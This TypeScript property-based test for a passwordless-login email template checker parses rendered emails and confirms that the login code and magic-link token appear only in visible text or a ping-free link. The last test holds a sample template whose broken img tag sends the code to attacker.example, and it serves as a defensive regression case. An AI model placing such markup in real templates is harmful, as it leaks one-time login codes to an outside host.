/**
 * The template markup rule as a property (issue 18): whatever findMarkupProblems accepts,
 * the email rendered from it with real values and read by the WHATWG parsing algorithm
 * (parse5, what browsers implement) holds the code only in text a reader sees, and the
 * link only there or as the whole href of a ping-free HTML <a>. The oracle below walks
 * the parsed email on its own; it shares nothing with the checker but the parser.
 */
import fc from 'fast-check';
import { parse, type DefaultTreeAdapterMap } from 'parse5';
import { findMarkupProblems } from '../../packages/strapi-passwordless-login/src/shared/template-markup';
import { renderTemplate, type TemplateValues } from '../../packages/strapi-passwordless-login/src/shared/template';
import { template } from '../helpers/template-fragments';

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

const CODE = '482915';
const TOKEN = 'Tk7fQz_secret-9';
const URL = `https://shop.example/auth/link?token=${TOKEN}`;
const VALUES: TemplateValues = {
  CODE,
  URL,
  // Markup characters and spaces: escaped in the HTML part, they must not change where anything lands.
  'USER.username': `o'neil "x" <b>&amp; y`,
  'USER.email': 'o.neil@shop.example',
  EXPIRES_IN_MINUTES: '10',
  APP_NAME: 'Shop & Co',
};
const RAW_TEXT = ['style', 'script', 'textarea', 'title', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext'];

interface Leak {
  what: 'code' | 'link';
  where: string;
}

/** Every place the rendered email holds the code or the link's token, other than the allowed ones. */
function leaks(html: string): Leak[] {
  const found: Leak[] = [];
  const visit = (node: Node, ancestors: Element[]): void => {
    const inRawText = ancestors.some((element) => RAW_TEXT.includes(element.tagName.toLowerCase()));
    if (node.nodeName === '#text' && 'value' in node) {
      if (inRawText && node.value.includes(CODE)) found.push({ what: 'code', where: `text in <${ancestors[ancestors.length - 1]?.tagName}>` });
      if (inRawText && node.value.includes(TOKEN)) found.push({ what: 'link', where: `text in <${ancestors[ancestors.length - 1]?.tagName}>` });
      return;
    }
    if (node.nodeName === '#comment' && 'data' in node) {
      if (node.data.includes(CODE)) found.push({ what: 'code', where: 'comment' });
      if (node.data.includes(TOKEN)) found.push({ what: 'link', where: 'comment' });
      return;
    }
    if ('tagName' in node) {
      for (const attribute of node.attrs) {
        const text = `${attribute.name}=${attribute.value}`;
        if (text.includes(CODE)) found.push({ what: 'code', where: `<${node.tagName} ${attribute.name}>` });
        const isLink =
          node.tagName === 'a' &&
          node.namespaceURI === 'http://www.w3.org/1999/xhtml' &&
          attribute.name === 'href' &&
          attribute.value === URL &&
          !node.attrs.some((other) => other.name === 'ping');
        if (text.includes(TOKEN) && !isLink) found.push({ what: 'link', where: `<${node.tagName} ${attribute.name}>` });
      }
      if (node.tagName.includes(CODE) || node.tagName.includes(TOKEN.toLowerCase())) found.push({ what: 'code', where: 'tag name' });
    }
    const inside = 'tagName' in node ? [...ancestors, node] : ancestors;
    if ('childNodes' in node) for (const child of node.childNodes) visit(child, inside);
    if ('content' in node && node.content) visit(node.content, inside);
  };
  visit(parse(html), []);
  return found;
}

describe('template markup property (fast-check, parse5 as the browser)', () => {
  it('whatever the checker accepts renders with the code in text only and the link only in a ping-free <a href>', () => {
    let accepted = 0;
    fc.assert(
      fc.property(template, (draft) => {
        if (findMarkupProblems(draft).length > 0) return;
        if (draft.includes('<%=')) accepted += 1;
        expect(leaks(renderTemplate(draft, VALUES, { html: true }))).toEqual([]);
      }),
      { numRuns: 6000, seed: Number(process.env.FC_SEED ?? 18) }
    );
    // The property says nothing if the generator never makes an accepted template with a placeholder.
    expect(accepted).toBeGreaterThan(300);
  });

  it('the oracle sees the review’s leak when the checker is skipped', () => {
    const draft = `<p>Your code: <%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`;
    expect(leaks(renderTemplate(draft, VALUES, { html: true }))).toContainEqual({ what: 'code', where: '<img src>' });
  });
});
